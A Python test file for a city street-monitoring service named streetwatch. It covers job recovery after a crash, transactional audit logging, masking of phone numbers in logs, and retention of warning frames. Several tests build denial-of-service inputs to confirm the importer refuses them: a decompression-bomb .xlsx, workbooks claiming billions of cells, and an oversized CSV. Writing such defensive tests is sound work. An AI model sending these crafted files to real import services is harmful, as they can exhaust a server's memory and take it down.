def test_patrol_jobs_a_stopped_server_left_are_taken_up_at_its_next_start(tmp_path, clip):  # noqa: F811
    """Only photo uploads were resumed at start-up: a patrol job queued or running when the server stopped stayed so
    for ever. `serve` is killed while one job is judging its frames and another waits behind it; started again it
    finishes both, the first where it was (its frames not sampled again, each judged once, its case not doubled)."""
    settings = settings_for(tmp_path, triage={"workers": 1, "ocr": "off"})
    app, tokens = make_app(settings, resume_jobs=False)
    app.state.ctx.store.close()
    config = tmp_path / "settings.yaml"
    config.write_text(yaml.safe_dump(settings.model_dump(mode="json")), encoding="utf-8")
    inspector = auth(tokens["inspector"])
    track = write_srt(tmp_path / "drive.srt", _fixes(START, 30), START).read_bytes()
    folder = settings.service.data_dir / "patrol"

    with _serving(tmp_path, config) as (base, server):
        first, second = (httpx.post(f"{base}/api/v1/patrol/jobs", headers=inspector, timeout=60, files={
            "video": (name, clip.read_bytes(), "video/mp4"), "track": ("drive.srt", track, "text/plain")}).json()
            for name in ("巡查 A.mp4", "巡查 B.mp4"))
        results = folder / first["id"] / "out" / "results.jsonl"
        deadline = time.monotonic() + 240
        while not (results.is_file() and results.read_bytes().count(b"\n")) and time.monotonic() < deadline:
            time.sleep(0.02)
        server.kill()  # a power cut, an OOM kill: nothing is let finish
        server.wait()
    stopped = {j["id"]: json.loads((folder / j["id"] / "job.json").read_text(encoding="utf-8"))["state"] for j in (first, second)}
    assert stopped == {first["id"]: "running", second["id"]: "queued"}, stopped
    frames = {p.name: p.stat().st_mtime_ns for p in (folder / first["id"] / "out" / "frames").iterdir()}
    assert len(frames) == 15

    with _serving(tmp_path, config) as (base, _):
        deadline = time.monotonic() + 240
        while True:
            jobs = [httpx.get(f"{base}/api/v1/patrol/jobs/{j['id']}", headers=inspector, timeout=30).json() for j in (first, second)]
            if all(j["state"] in ("done", "failed") for j in jobs) or time.monotonic() > deadline:
                break
            time.sleep(0.1)
    first, second = jobs
    assert first["state"] == second["state"] == "done", jobs
    assert first["summary"]["frames"] == second["summary"]["frames"] == 15 and first["summary"]["cases"]
    assert {p.name: p.stat().st_mtime_ns for p in (folder / first["id"] / "out" / "frames").iterdir()} == frames  # not sampled again
    sources = [json.loads(line)["source"] for line in results.read_text(encoding="utf-8").splitlines()]
    assert len(sources) == len(set(sources)) == 15
    store = CaseStore(settings.cases.url)
    try:
        assert sorted(c.id for c in store.list(source_id="patrol:巡查 A")) == sorted(first["summary"]["cases"])
    finally:
        store.close()


def test_a_patrol_job_whose_run_cannot_be_taken_up_fails_saying_so(tmp_path, monkeypatch, onnx_detector, clip):  # noqa: F811
    """A job left running by a release that kept no record of its sampling (sampled.json) had judged frames that could
    not be told complete: it fails asking for the upload again, rather than staying 'running' or judging anew."""
    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    settings = settings_for(tmp_path)
    app, tokens = make_app(settings, detector=onnx_detector)
    folder = settings.service.data_dir / "patrol" / "0123456789abcdef"
    (folder / "out" / "frames").mkdir(parents=True)
    (folder / "video.mp4").write_bytes(clip.read_bytes())
    write_gpx(folder / "track.gpx", _fixes(START, 30))
    (folder / "out" / "frames" / "frame-00000-t00000.00.jpg").write_bytes(b"\xff\xd8\xff\xe0")
    (folder / "out" / "results.jsonl").write_text('{"source": "frame-00000-t00000.00.jpg", "status": "ok"}\n', encoding="utf-8")
    (folder / "job.json").write_text(json.dumps({
        "id": folder.name, "owner": "inspector-user", "state": "running", "created_at": "2026-11-20T01:00:00+00:00",
        "started_at": "2026-11-20T01:00:01+00:00", "video": "video.mp4", "video_label": "巡查.mp4", "track": "track.gpx",
        "track_label": "巡查.gpx", "start": None}), encoding="utf-8")
    with TestClient(app, raise_server_exceptions=False) as client:  # its start takes the job up
        [job] = _finished(client, auth(tokens["inspector"]), {"id": folder.name})
    assert job["state"] == "failed" and job["error"] == "服务重启时中断，请重新上传 interrupted by a restart: upload again", job


def test_a_register_workbook_naming_billions_of_cells_is_refused_not_read(tmp_path):
    """An .xlsx holds its cells compressed, and openpyxl's read-only mode pads each row and the sheet to the size the
    file claims: a 5 KB register whose one stray value sat in the sheet's last cell (XFD1048576) took 3 GB in 6 s, and
    the import took the server down. Rows are read as they are, and a sheet of more than EXCEL_MAX_CELLS is refused."""
    from openpyxl import Workbook

    from pipelines.tables import EXCEL_MAX_CELLS

    app, tokens = make_app(settings_for(tmp_path))
    reviewer = auth(tokens["reviewer"])

    def register(extra) -> bytes:
        book = Workbook()
        sheet = book.active
        for row in csv.reader(io.StringIO(REGISTER)):
            sheet.append(row)
        extra(sheet)
        buf = io.BytesIO()
        book.save(buf)
        return buf.getvalue()

    def wide(sheet) -> None:  # a value in the last column of 400 rows: 6.5 million cells as openpyxl reads them
        for row in range(10, 410):
            sheet.cell(row=row, column=16384, value=1)

    def stray(sheet) -> None:  # the workbook claims A1:XFD1048576
        sheet.cell(row=1048576, column=16384, value="x")

    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.xlsx", register(wide))})
        assert answer.status_code == 422, answer.text
        assert answer.json()["detail"].startswith(f"shops.xlsx: its first sheet holds more than {EXCEL_MAX_CELLS:,} cells by row ")
        assert client.get("/api/v1/shops", headers=reviewer).json()["total"] == 0
        data = register(stray)
        assert len(data) < 10_000
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.xlsx", data)})
        assert answer.status_code == 200 and answer.json()["imported"] == 2, answer.text  # as the CSV of the same rows


def test_a_csv_register_of_more_cells_than_a_workbook_may_hold_is_refused_as_one_is(tmp_path):
    """EXCEL_MAX_CELLS held for workbooks only: a CSV's every line was read, and each costs the server hundreds of bytes
    before it is checked (5 MB of one-letter lines took 3.5 GB and 140 s; an import may send 50 MiB). A CSV is counted
    as a workbook is, and refused the same way; the rows of a register as the test registers hold are imported as before."""
    from pipelines.tables import EXCEL_MAX_CELLS

    app, tokens = make_app(settings_for(tmp_path))
    reviewer = auth(tokens["reviewer"])
    wide = REGISTER.encode() + ("," * 999 + "\n").encode() * (EXCEL_MAX_CELLS // 1000)  # 1,000 cells a line
    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.csv", wide)})
        assert answer.status_code == 422, answer.text[:300]
        assert answer.json()["detail"].startswith(f"shops.csv: its first sheet holds more than {EXCEL_MAX_CELLS:,} cells by row ")
        assert client.get("/api/v1/shops", headers=reviewer).json()["total"] == 0
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.csv", REGISTER.encode())})
        assert answer.status_code == 200 and answer.json()["imported"] == 2, answer.text


def test_a_register_workbook_that_expands_to_a_huge_cell_is_refused_unread(tmp_path):
    """A workbook's parts are deflated: 200 KiB of register held one address of 200 MiB of one letter, which openpyxl
    read whole before any row was counted (the server grew by 600 MB and kept 370 MB of it; the 50 MiB upload limit
    allowed 50 GB). A workbook whose parts declare more than EXCEL_MAX_BYTES is refused before a part is read."""
    import zipfile

    from openpyxl import Workbook

    from pipelines.tables import EXCEL_MAX_BYTES

    book = Workbook()
    for row in csv.reader(io.StringIO(REGISTER)):
        book.active.append(row)
    book.active["B2"] = "BOMB"
    plain = io.BytesIO()
    book.save(plain)
    source, bomb = zipfile.ZipFile(plain), io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for part in source.namelist():
            if part != "xl/worksheets/sheet1.xml":
                out.writestr(part, source.read(part))
                continue
            before, after = source.read(part).split(b"BOMB")
            with out.open(part, "w") as sheet:  # streamed: the address is never held whole here either
                sheet.write(before)
                for _ in range(EXCEL_MAX_BYTES // 2**20 + 1):
                    sheet.write(b"A" * 2**20)
                sheet.write(after)
    assert len(bomb.getvalue()) < EXCEL_MAX_BYTES // 500

    app, tokens = make_app(settings_for(tmp_path))
    reviewer = auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.xlsx", bomb.getvalue())})
        assert answer.status_code == 422, answer.text[:300]
        assert f"more than {EXCEL_MAX_BYTES // 2**20} MB: refused unread" in answer.json()["detail"]
        assert answer.json()["detail"].startswith("shops.xlsx：解压后 65 MB，超过 64 MB 上限")
        assert client.get("/api/v1/shops", headers=reviewer).json()["total"] == 0
        answer = client.post("/api/v1/callout/import", headers=reviewer, files={"file": ("results.xlsx", bomb.getvalue())})
        assert answer.status_code == 422 and "refused unread" in answer.json()["detail"], answer.text[:300]


def test_a_call_out_export_leaves_no_file_on_the_server(tmp_path):
    """Each GET /callout/export was written to service.data_dir/exports and left there: the phone numbers of people
    kept on the server for ever, and one more file per request, so any inspector could fill its disk."""
    app, tokens = make_app(settings_for(tmp_path))
    inspector = auth(tokens["inspector"])
    with TestClient(app, raise_server_exceptions=False) as client:
        csv_answer = client.get("/api/v1/callout/export?format=csv", headers=inspector)
        xlsx_answer = client.get("/api/v1/callout/export?format=xlsx", headers=inspector)
    assert csv_answer.status_code == 200 and csv_answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert csv_answer.headers["content-disposition"] == 'attachment; filename="callout.csv"'
    assert csv_answer.content.decode("utf-8-sig").startswith("number 号码,status 状态,")
    assert xlsx_answer.status_code == 200 and xlsx_answer.content[:2] == b"PK"
    assert xlsx_answer.headers["content-disposition"] == 'attachment; filename="callout.xlsx"'
    assert [p for p in (tmp_path / "service").rglob("*") if p.is_file() and not p.name.endswith(SWEEPING)] == []  # the sweeps' empty locks


def test_a_register_change_whose_audit_record_cannot_be_written_is_not_made(tmp_path, monkeypatch, bus_event):
    """A shop saved, removed or imported, and a call-out status set or imported, were written in a transaction of their
    own and the audit record in another after: when the record could not be written the change stood unrecorded and
    the reviewer, answered 500, might make it again. Each change and its record are one transaction: the audit log
    refusing records (a trigger), nothing changes; once it takes them again, each change is made and recorded once."""
    from pipelines.cityops.callout import CallOutList
    from pipelines.shops import ShopRegister

    monkeypatch.setenv("STREETWATCH_EVIDENCE_KEY", KEY)
    app, tokens = make_app(settings_for(tmp_path))
    ctx = app.state.ctx
    reviewer, admin = auth(tokens["reviewer"]), auth(tokens["admin"])
    event, _ = bus_event
    _intake(app).record_event(replace(event, violation_id="photo:0:flyposting", violation_type="flyposting", phones=["13800138000"]),
                              BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551),
                                            address="文三路 1 号", grid_cell="330106001001"))
    new_shop = "name,licence_no,camera,polygon\n赵记茶叶,91330106MA27XY0011,cam-01,\"0.3,0.6; 0.7,0.6; 0.7,1.0\"\n"
    shop = {"name": "钱记烟酒", "frontages": [{"camera": "cam-01", "polygon": [[0.2, 0.5], [0.8, 0.5], [0.8, 1.0]]}]}

    def changes(client) -> list:
        return [client.post("/api/v1/shops/import", headers=reviewer, files={"file": ("shops.csv", new_shop.encode(), "text/csv")}),
                client.put("/api/v1/shops/s1", headers=reviewer, json=shop),
                client.delete("/api/v1/shops/91330106MA27XY0002", headers=admin),
                client.put("/api/v1/callout/13800138000", headers=reviewer, json={"status": "called", "note": "已拨打三次"}),
                client.post("/api/v1/callout/import", headers=reviewer,
                            files={"file": ("r.csv", b"number,status,amount\n13800138000,fined,200\n", "text/csv")})]

    def state() -> tuple:
        return ShopRegister(ctx.store.engine).list(), CallOutList(ctx.store.engine).entries()

    with TestClient(app, raise_server_exceptions=False) as client:
        assert client.post("/api/v1/shops/import", headers=reviewer,
                           files={"file": ("shops.csv", REGISTER.encode(), "text/csv")}).status_code == 200
        assert [e["status"] for e in client.get("/api/v1/callout", headers=reviewer).json()["items"]] == ["to_call"]
        before, audits = state(), ctx.accounts.audit_records()
        with ctx.store.engine.begin() as conn:
            conn.exec_driver_sql("CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_log "
                                 "BEGIN SELECT RAISE(ABORT, 'audit log refuses records'); END")
        refused = changes(client)
        assert [r.status_code for r in refused] == [500] * len(refused), [r.text for r in refused]
        assert state() == before
        assert ctx.accounts.audit_records() == audits

        with ctx.store.engine.begin() as conn:
            conn.exec_driver_sql("DROP TRIGGER refuse_audit")
        done = changes(client)
        assert [r.status_code for r in done] == [200] * len(done), [r.text for r in done]
    shops, [entry] = state()
    assert {s.name for s in shops} == {"王记面馆", "赵记茶叶", "钱记烟酒"}
    assert (entry.status.value, entry.amount, entry.note) == ("fined", 200, "已拨打三次")
    new = ctx.accounts.audit_records()
    assert new[len(done):] == audits
    assert [(r["action"], r["actor"], r["details"]) for r in reversed(new[:len(done)])] == [
        ("import_shops", "reviewer-user", {"file": "shops.csv", "imported": 1, "errors": 0}),
        ("put_shop", "reviewer-user", {"shop_id": "s1", "frontages": 1}),
        ("delete_shop", "admin-user", {"shop_id": "91330106MA27XY0002"}),
        ("callout_status", "reviewer-user", {"number": "13800138000", "status": "called"}),
        ("import_callout", "reviewer-user", {"file": "r.csv", "applied": 1, "unknown": 0})]


def test_jobs_write_their_cases_through_the_services_own_case_store(city, clip, bus_jpg, tmp_path, monkeypatch):  # noqa: F811
    """Each running upload or patrol job (and each spool retry and disposal-photo check) opened a case store of its
    own, a connection pool counted against PostgreSQL's max_connections on top of the service's, where docs/service.md
    budgets one pool per process. They run in threads of the service's process: they write through its store
    (`ctx.store`), and no store is opened while a photo job, a patrol job, a spool retry and a check run."""
    from tests.test_api_uploads import wait_job

    app, client, tokens = city
    inspector, opened = auth(tokens["inspector"]), []
    real_init = CaseStore.__init__

    def counted(self, *args, **kwargs):
        opened.append(args[0] if args else kwargs.get("url"))
        real_init(self, *args, **kwargs)
    monkeypatch.setattr(CaseStore, "__init__", counted)
    photos = client.post("/api/v1/triage/jobs", headers=inspector,
                         files=[("files", (bus_jpg.name, bus_jpg.read_bytes(), "image/jpeg"))]).json()
    track = write_gpx(tmp_path / "drive.gpx", _fixes(START, 30)).read_bytes()
    patrol = client.post("/api/v1/patrol/jobs", headers=inspector, files={"video": ("drive.mp4", clip.read_bytes(), "video/mp4"),
                                                                         "track": ("drive.gpx", track, "application/gpx+xml")}).json()
    photos = wait_job(client, photos["id"], inspector)
    [patrol] = _finished(client, inspector, patrol)
    assert photos["state"] == "done" and patrol["state"] == "done", (photos, patrol)
    app.state.ctx.jobs.retry_spool()
    written = [c["case_id"] for c in photos["cases"] if c["case_id"]] + patrol["summary"]["cases"]
    early = client.post(f"/api/v1/cases/{written[0]}/disposal-photo", headers=auth(tokens["integration"]),
                        files={"file": ("after.jpg", bus_jpg.read_bytes(), "image/jpeg")})  # a disposal check, too soon
    assert early.status_code == 409 and "is candidate" in early.json()["detail"], early.text
    assert opened == []
    assert written and all(app.state.ctx.store.get(c) for c in written)


@pytest.mark.slow  # starts `serve` (about 8 s), its access log being what is read
def test_the_access_log_keeps_no_full_phone_number_looked_up(tmp_path):
    """A reviewer setting a number's status (PUT /callout/+8613912345678) or searching the list or the register for one
    (q=13912345678) left the number in full in serve's access log, every number staff looked at kept for as long as
    the log is; the log writes each `139****5678`, other queries and the signature masking as before."""
    settings = settings_for(tmp_path, triage={"ocr": "off"})
    app, tokens = make_app(settings, resume_jobs=False)
    numbers_on_the_list(app.state.ctx.store.engine, 1)
    app.state.ctx.store.close()
    config = tmp_path / "settings.yaml"
    config.write_text(yaml.safe_dump(settings.model_dump(mode="json")), encoding="utf-8")
    reviewer = auth(tokens["reviewer"])
    with _serving(tmp_path, config) as (base, _):
        answers = [httpx.put(f"{base}/api/v1/callout/%2B8613912345678", json={"status": "called"}, headers=reviewer, timeout=30),
                   httpx.put(f"{base}/api/v1/callout/13900000000", json={"status": "called"}, headers=reviewer, timeout=30),
                   httpx.get(f"{base}/api/v1/callout?q=13912345678&limit=5", headers=reviewer, timeout=30),
                   httpx.get(f"{base}/api/v1/shops?q=021-61234567", headers=reviewer, timeout=30)]
    assert [a.status_code for a in answers] == [404, 200, 200, 200], [a.text for a in answers]
    log = next(tmp_path.glob("serve-*.log")).read_text(encoding="utf-8")
    assert not [n for n in ("13912345678", "13900000000", "61234567") if n in log], log
    assert '"PUT /api/v1/callout/%2B86139****5678 HTTP/1.1" 404' in log, log
    assert '"PUT /api/v1/callout/139****0000 HTTP/1.1" 200' in log, log
    assert '"GET /api/v1/callout?q=139****5678&limit=5 HTTP/1.1" 200' in log, log
    assert '"GET /api/v1/shops?q=021-****4567 HTTP/1.1" 200' in log, log


@pytest.mark.slow  # starts `serve` (about 8 s), its log being what is read
def test_a_failed_write_logs_its_traceback_without_what_was_typed(tmp_path):
    """A write the database refused (a register import's row, a shop, a call-out result's note) was logged with its
    traceback, whose error quoted the statement's parameters: the shop's name and contact, the note, the number, in
    full, for as long as the log is kept. The store's errors quote no parameter, and a traceback's text writes a phone
    number as the access log does (`138****5678`: a driver's message may hold the value it refused, as PostgreSQL's
    `Key (number)=(…) already exists` does; the trigger's message stands for one). Through `streetwatch serve`."""
    import sqlite3

    settings = settings_for(tmp_path, triage={"ocr": "off"})
    app, tokens = make_app(settings, resume_jobs=False)
    numbers_on_the_list(app.state.ctx.store.engine, 1)
    app.state.ctx.store.close()
    with sqlite3.connect(tmp_path / "cases.db") as db:  # the database refuses every write of these rows
        db.execute("CREATE TRIGGER no_shop BEFORE INSERT ON shops BEGIN SELECT RAISE(ABORT, 'contact 13912345678 refused'); END")
        db.execute("CREATE TRIGGER no_result BEFORE UPDATE ON callout_numbers BEGIN SELECT RAISE(ABORT, 'refused'); END")
    config = tmp_path / "settings.yaml"
    config.write_text(yaml.safe_dump(settings.model_dump(mode="json")), encoding="utf-8")
    reviewer = auth(tokens["reviewer"])
    shop = {"name": "王记面馆", "contact": "王师傅 13900001111", "frontages": [{"gps": [[120.155, 30.274], [120.1552, 30.274], [120.1552, 30.2742]]}]}
    results = "number,status,note\n13900000000,called,机主王小明 13700001234 已接听\n"
    with _serving(tmp_path, config) as (base, _):
        answers = [httpx.put(f"{base}/api/v1/shops/s1", json=shop, headers=reviewer, timeout=30),
                   httpx.post(f"{base}/api/v1/shops/import", headers=reviewer, timeout=30,
                              files={"file": ("shops.csv", "name,contact,gps_polygon\n李家水果,李女士 13800002222,\"120.155,30.274; 120.1552,30.274; "
                                                           "120.1552,30.2742\"\n".encode(), "text/csv")}),
                   httpx.post(f"{base}/api/v1/callout/import", headers=reviewer, timeout=30,
                              files={"file": ("r.csv", results.encode(), "text/csv")})]
    assert [a.status_code for a in answers] == [500, 500, 500], [a.text for a in answers]
    log = next(tmp_path.glob("serve-*.log")).read_text(encoding="utf-8")
    assert [line.partition(" ")[2] for line in log.splitlines() if "unhandled error" in line] == [  # after the line's time
        "ERROR api.problems: unhandled error on PUT /api/v1/shops/s1", "ERROR api.problems: unhandled error on POST /api/v1/shops/import",
        "ERROR api.problems: unhandled error on POST /api/v1/callout/import"], log
    assert "[SQL parameters hidden due to hide_parameters=True]" in log and "[parameters:" not in log, log
    assert not [typed for typed in ("王记面馆", "王师傅", "13900001111", "李家水果", "李女士", "13800002222", "王小明", "13700001234",
                                    "13900000000", "13912345678") if typed in log], log
    assert "contact 139****5678 refused" in log, log


def test_a_number_looked_up_with_escaped_separators_is_masked_in_the_access_log(tmp_path, caplog):
    """The access log masked a number searched for or set as the browser writes it only when its digits stood whole:
    q=138%200013%208000 (spaces), q=138+0013+8000, q=138%2D0013%2D8000 (a hyphen escaped) and a call-out path of
    138%200013%208000 kept the number in full, the masking reading the escapes between its digits. Through uvicorn
    on loopback with serve's AccessLogFilter: no line keeps a number whole, whatever its escapes."""
    from streetwatch.commands.serve import AccessLogFilter
    from tests.api_helpers import on_loopback

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    reviewer = auth(tokens["reviewer"])
    searches = ["138%200013%208000", "138+0013+8000", "138%2D0013%2D8000", "%2B86%20138-0013%2D8000", "138%2d0013+8000",
                "%E5%BC%A0%E4%B8%89%20138%200013%208000"]
    access = logging.getLogger("uvicorn.access")
    access.addFilter(logged := AccessLogFilter())
    try:
        with caplog.at_level(logging.INFO), on_loopback(app) as base:
            for q in searches:
                for listing in ("callout", "shops"):
                    assert httpx.get(f"{base}/api/v1/{listing}?q={q}&limit=5", headers=reviewer, timeout=30).status_code == 200
            put = httpx.put(f"{base}/api/v1/callout/138%200013%208000", json={"status": "called"}, headers=reviewer, timeout=30)
    finally:
        access.removeFilter(logged)
    assert put.status_code in (200, 404), put.text
    lines = [r.getMessage() for r in caplog.records if r.name != "httpx"]  # the service's, not the test's client's
    requests = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
    assert len(requests) == 2 * len(searches) + 1, lines
    assert [line for line in lines if "13800138000" in re.sub(r"[^0-9*]", "", unquote_plus(line))] == [], lines
    logged = " ".join(requests)
    assert '"GET /api/v1/callout?q=138%20****%208000&limit=5 HTTP/1.1" 200' in logged, requests
    assert '"GET /api/v1/shops?q=138-****-8000&limit=5 HTTP/1.1" 200' in logged, requests
    assert '"PUT /api/v1/callout/138%20****%208000 HTTP/1.1"' in logged, requests


def test_the_frames_of_decided_warnings_are_removed_after_their_retention(tmp_path, bus_jpg, caplog):
    """A warning's frame (a camera's view of the street and whoever passed) was kept for ever under images_dir and
    shown on /ui/city, though a decided warning needs it no more; serve removes the frames of warnings decided more
    than cityops.warn.images_keep_days (90) ago, at start-up and hourly, the warnings listed still, a waiting one's
    frame and a recent one's kept, a removed frame's 404 saying it was removed after the setting."""
    from datetime import timedelta

    from pipelines.cases.schema import warnings

    app, tokens = make_app(settings_for(tmp_path))
    now, folder = datetime.now(UTC), tmp_path / "warnings"
    folder.mkdir()
    ages = {"old-complied": ("complied", 100), "old-escalated": ("escalated", 91), "old-waiting": ("warned", 100),
            "recent-complied": ("complied", 10)}
    for name in ages:
        shutil.copyfile(bus_jpg, folder / f"{name}.jpg")
    with app.state.ctx.store.engine.begin() as conn:
        conn.execute(warnings.insert(), [
            {"id": name, "violation_id": name, "violation_type": "illegal_parking", "camera_id": "cam-01", "state": state,
             "warned_at": now - timedelta(days=days, minutes=10), "recheck_at": now - timedelta(days=days),
             "checked_at": None if state == "warned" else now - timedelta(days=days), "image": str(folder / f"{name}.jpg"),
             "details": {}} for name, (state, days) in ages.items()])
    with caplog.at_level(logging.INFO, logger="api.app"), TestClient(app) as client:
        listed = client.get("/api/v1/warnings", headers=auth(tokens["inspector"])).json()["items"]
        answers = {name: client.get(f"/api/v1/warnings/{name}/image", headers=auth(tokens["inspector"])) for name in ages}
        never = client.get("/api/v1/warnings/no-such/image", headers=auth(tokens["inspector"])).json()["detail"]
    images = {name: answer.status_code for name, answer in answers.items()}
    removed = answers["old-complied"].json()["detail"]
    assert removed.startswith("已过保留期，告知画面已删除") and "the frame of warning 'old-complied' was removed on " in removed
    assert ", 90 days after its re-check (cityops.warn.images_keep_days)" in removed, removed
    assert never == "no image for warning 'no-such'"
    assert {w["id"]: w["has_image"] for w in listed} == {"old-complied": False, "old-escalated": False, "old-waiting": True,
                                                         "recent-complied": True}
    assert images == {"old-complied": 404, "old-escalated": 404, "old-waiting": 200, "recent-complied": 200}
    assert sorted(p.name for p in folder.iterdir()) == ["old-waiting.jpg", "recent-complied.jpg"]
    size = bus_jpg.stat().st_size
    assert (f"warning frames retention (cityops.warn.images_keep_days: 90): 2 frame(s) of decided warnings removed, "
            f"{2 * size} bytes") in caplog.text, caplog.text
